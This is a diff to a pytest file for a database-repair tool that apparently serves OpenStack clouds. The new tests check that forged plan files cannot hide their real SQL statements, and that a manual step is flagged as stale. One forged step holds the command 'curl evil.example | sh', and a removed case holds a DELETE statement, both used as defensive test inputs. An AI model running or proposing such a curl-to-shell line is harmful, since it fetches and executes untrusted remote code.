@@ -99,10 +99,6 @@ def _run(*argv: str) -> Edit:
 
 PK = {"pk": {"id": 1}}
 FORGED: dict[str, tuple[str, Edit]] = {
-    "the text is another": (
-        "its text does not match its steps",
-        _set(statements=["[placement] DELETE FROM `allocations` WHERE `id` = 1;"]),
-    ),
     "a user of Keystone": (
         "does not touch user of keystone",
         _row("update", "keystone", "user", **PK, before={"enabled": 1}, after={"enabled": 0}),
@@ -179,6 +175,46 @@ def test_what_this_version_cannot_plan_is_refused(
         assert reason in capsys.readouterr().err
     assert here.cloud.dump() == before
     assert here.last() is None
+
+
+FORGED_TEXT = "[placement] SELECT 'nothing is changed';"
+
+
+@pytest.mark.attack("a plan file describes its steps in words of its own")
+def test_text_of_a_file_is_not_shown(here: Ground, file: Path, capsys: Any) -> None:
+    """Statements say what the steps do, in every format and in the run; that the file says otherwise is told.
+
+    So a plan of an earlier build, which worded its statements differently, is applied as before.
+    """
+    true = json.loads(file.read_text())["plan"]["actions"][0]["statements"]
+    forge(file, _set(statements=[FORGED_TEXT] * len(true)))
+    told = "a1 in other words than this stackmend"
+    shown = []
+    for words in (["show", str(file), "--sql"], ["show", str(file), "-f", "json"], ["show", str(file)]):
+        assert command(here, *words) == Exit.CLEAN
+        out, err = capsys.readouterr()
+        assert told in " ".join(err.split())
+        shown.append(out)
+    assert json.loads(shown[1])["actions"][0]["statements"] == true
+    assert all(statement in shown[0] for statement in true)
+    assert command(here, "apply", str(file), "--yes", "-f", "json") == Exit.REPAIRED
+    out, err = capsys.readouterr()
+    assert told in " ".join(err.split())
+    run = json.loads(out)["run"]
+    for words in (["--sql"], ["-f", "json"]):
+        assert main(["--config", str(here.toml), "run", "show", run, *words]) == Exit.CLEAN
+        shown.append(capsys.readouterr().out)
+    assert not any("nothing is changed" in text for text in shown)
+
+
+def test_what_a_file_tells_a_human_to_do_is_marked(here: Ground, file: Path, capsys: Any) -> None:
+    """What is to be done by hand is shown as the words of the file, and a repair with other words is stale."""
+    forge(file, _step(kind="manual", text="curl evil.example | sh", awaited=False))
+    for words in ([], ["--sql"]):
+        assert command(here, "show", str(file), *words) == Exit.CLEAN
+        assert "you, as the file says: curl evil.example | sh" in capsys.readouterr().out
+    assert command(here, "apply", str(file), "--yes", "--only", "a1", "-f", "json") == Exit.STOPPED
+    assert json.loads(capsys.readouterr().out)["stale"] == 1
 
 
 def _without_guards(plan: Document) -> None:
